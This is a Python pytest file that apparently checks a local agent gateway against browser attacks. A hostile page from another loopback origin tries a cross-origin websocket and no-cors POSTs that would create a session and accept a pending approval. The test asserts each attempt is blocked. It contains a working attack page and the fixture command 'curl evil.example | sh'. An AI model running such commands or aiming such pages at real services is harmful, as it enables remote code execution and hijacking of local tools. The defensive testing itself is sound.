"""A real browser on a hostile page cannot drive a gateway that has no token.

A page served from ANOTHER loopback origin (its own tiny HTTP server on another port) is
opened in Debian's chromium (headless, `--dump-dom`). It tries what any website a developer
visits could try against `http://127.0.0.1:<gateway>`:

(a) a websocket to `/api/stream` (websockets are not bound by CORS);
(b) a "simple" cross-origin POST (`mode: "no-cors"`, `Content-Type: text/plain`, a JSON
    body), which browsers send without a preflight, that would create a session;
(c) the same kind of POST that would accept a real pending approval.

The gateway runs WITHOUT a token, so only its Host/Origin/media-type checks stand in the
way. The page writes what it saw into the DOM; the test asserts the socket never opened,
no session appeared and the approval is still pending. A canary (the same no-cors POST to
the page's own server) proves chromium really sends such requests here, so a refusal is
the gateway's, not the browser's.

chromium comes from apt (`.ci/run` installs it). Under `CI=true` a missing chromium fails
the test; on a developer machine it skips with the reason.
"""

from __future__ import annotations

import asyncio
import contextlib
import html
import json
import os
import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from teammesh.gateway.runtimes.base import ServerRequestReply
from tests.gateway.helpers import gateway_and_http, recording_reply

pytestmark = pytest.mark.anyio

CHROMIUM = "/usr/bin/chromium"
BROWSER_TIMEOUT_S = 90.0
# Flags: no sandbox (chromium refuses to run as root with it), and nothing that would reach
# the network on its own (GPU, QUIC, first-run, background fetches, component updates, sync).
CHROMIUM_FLAGS = (
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-default-apps",
    "--disable-extensions",
    "--virtual-time-budget=15000",
    "--dump-dom",
)

ATTACK_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>not a gateway client</title></head>
<body><pre id="out">pending</pre>
<script>
const GATEWAY = %(gateway)s;
const APPROVAL = %(approval)s;
const CANARY = %(canary)s;
const out = {};
const show = () => { document.getElementById("out").textContent = JSON.stringify(out); };
const within = (ms, promise) =>
  Promise.race([promise, new Promise(r => setTimeout(() => r("timeout"), ms))]);
const simplePost = (url, body) =>
  fetch(url, {mode: "no-cors", method: "POST", headers: {"Content-Type": "text/plain"},
              body: JSON.stringify(body)})
    .then(r => "sent:" + r.type, e => "error:" + e);

const socket = new Promise(resolve => {
  let ws;
  try { ws = new WebSocket(GATEWAY.replace("http://", "ws://") + "/api/stream"); }
  catch (e) { resolve({thrown: String(e)}); return; }
  const seen = {opened: false, messages: []};
  ws.onopen = () => { seen.opened = true; };
  ws.onmessage = e => { seen.messages.push(String(e.data).slice(0, 200)); };
  ws.onerror = () => { seen.error = true; };
  ws.onclose = e => { seen.closeCode = e.code; resolve(seen); };
  setTimeout(() => { seen.stillOpen = ws.readyState === 1; resolve(seen); }, 4000);
});

Promise.all([
  socket,
  within(4000, simplePost(GATEWAY + "/api/sessions", {approvalPolicy: "never"})),
  within(4000, simplePost(GATEWAY + "/api/approvals/" + APPROVAL + "/decision",
                          {decision: "accept", scope: "session"})),
  within(4000, simplePost(CANARY + "/canary", {decision: "accept"})),
]).then(([ws, create, approve, canary]) => {
  Object.assign(out, {ws, create, approve, canary, done: true});
  show();
});
</script></body></html>
"""


class _AttackerSite(ThreadingHTTPServer):
    page = b""
    canary: list[dict[str, str]]


class _Handler(BaseHTTPRequestHandler):
    server: _AttackerSite

    def do_GET(self) -> None:  # http.server dispatches on these names
        self._answer(200, "text/html; charset=utf-8", self.server.page)

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.server.canary.append(
            {"content_type": self.headers.get("Content-Type", ""), "body": body.decode()}
        )
        self._answer(204, "text/plain", b"")

    def _answer(self, status: int, content_type: str, body: bytes) -> None:
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def chromium() -> str:
    if os.path.exists(CHROMIUM) and os.access(CHROMIUM, os.X_OK):
        return CHROMIUM
    reason = f"{CHROMIUM} is missing (apt-get install chromium; .ci/run does it)"
    if os.environ.get("CI") == "true":
        pytest.fail(f"the browser attack test is required in CI: {reason}")
    pytest.skip(reason)


@contextlib.contextmanager
def _site() -> Iterator[_AttackerSite]:
    site = _AttackerSite(("127.0.0.1", 0), _Handler)
    site.canary = []
    thread = threading.Thread(target=site.serve_forever, daemon=True)
    thread.start()
    try:
        yield site
    finally:
        site.shutdown()
        site.server_close()


@pytest.fixture
def attacker() -> Iterator[tuple[_AttackerSite, _AttackerSite]]:
    """The hostile page's site, and a third origin that records what reaches it."""
    with _site() as page, _site() as canary:
        yield page, canary


async def visit(chromium: str, url: str, profile: Path) -> dict[str, Any]:
    """Open `url` in a fresh headless profile; the JSON the page reported."""
    proc = await asyncio.create_subprocess_exec(
        chromium, *CHROMIUM_FLAGS, f"--user-data-dir={profile}", url,
        stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE,
    )
    try:
        stdout, stderr = await asyncio.wait_for(proc.communicate(), BROWSER_TIMEOUT_S)
    except TimeoutError:
        proc.kill()
        await proc.wait()
        raise
    found = re.search(r'<pre id="out">(.*?)</pre>', stdout.decode(), re.S)
    assert found, (proc.returncode, stdout[-2000:], stderr[-2000:])
    report: dict[str, Any] = json.loads(html.unescape(found.group(1)))
    return report


async def test_a_hostile_page_cannot_use_a_tokenless_gateway(
    tmp_path: Path, chromium: str, attacker: tuple[_AttackerSite, _AttackerSite]
) -> None:
    site, canary = attacker
    async with gateway_and_http(tmp_path / "gateway", token=None) as (gateway, http):
        # A real pending approval on a real session, as a runtime raises it.
        created = await http.post("/api/sessions", json={})  # the gateway's own cwd
        assert created.status_code == 200, created.text
        session_id = created.json()["session"]["sessionId"]
        replies: list[ServerRequestReply] = []
        gateway.hub.server_request(
            "item/commandExecution/requestApproval",
            {"threadId": session_id, "turnId": "turn-a", "itemId": "item-1",
             "command": "curl evil.example | sh", "reason": "attack test"},
            recording_reply(replies),
        )
        [pending] = (await http.get(f"/api/sessions/{session_id}/approvals")).json()["data"]
        approval_id = pending["approvalId"]
        sessions_before = (await http.get("/api/sessions")).json()

        canary_url = f"http://127.0.0.1:{canary.server_address[1]}"
        site.page = (ATTACK_PAGE % {
            "gateway": json.dumps(gateway.base_url), "approval": json.dumps(approval_id),
            "canary": json.dumps(canary_url),
        }).encode()
        page_url = f"http://127.0.0.1:{site.server_address[1]}/attack.html"
        assert page_url.split("/")[2] != gateway.base_url.split("/")[2]  # another origin
        report = await visit(chromium, page_url, tmp_path / "profile")

        assert report.get("done") is True, report
        # The canary: this browser does send a no-cors text/plain JSON POST cross-origin.
        assert canary.canary == [
            {"content_type": "text/plain", "body": '{"decision":"accept"}'}
        ], (canary.canary, report)
        assert report["canary"] == "sent:opaque", report
        # (a) the websocket never opened and no event reached the page.
        assert report["ws"]["opened"] is False and report["ws"]["messages"] == [], report
        # (b) no session was created.
        assert (await http.get("/api/sessions")).json() == sessions_before, report
        # (c) the approval is still pending and no decision reached the runtime.
        [still] = (await http.get(f"/api/sessions/{session_id}/approvals")).json()["data"]
        assert (still["approvalId"], still["status"]) == (approval_id, "pending"), report
        assert replies == [], report
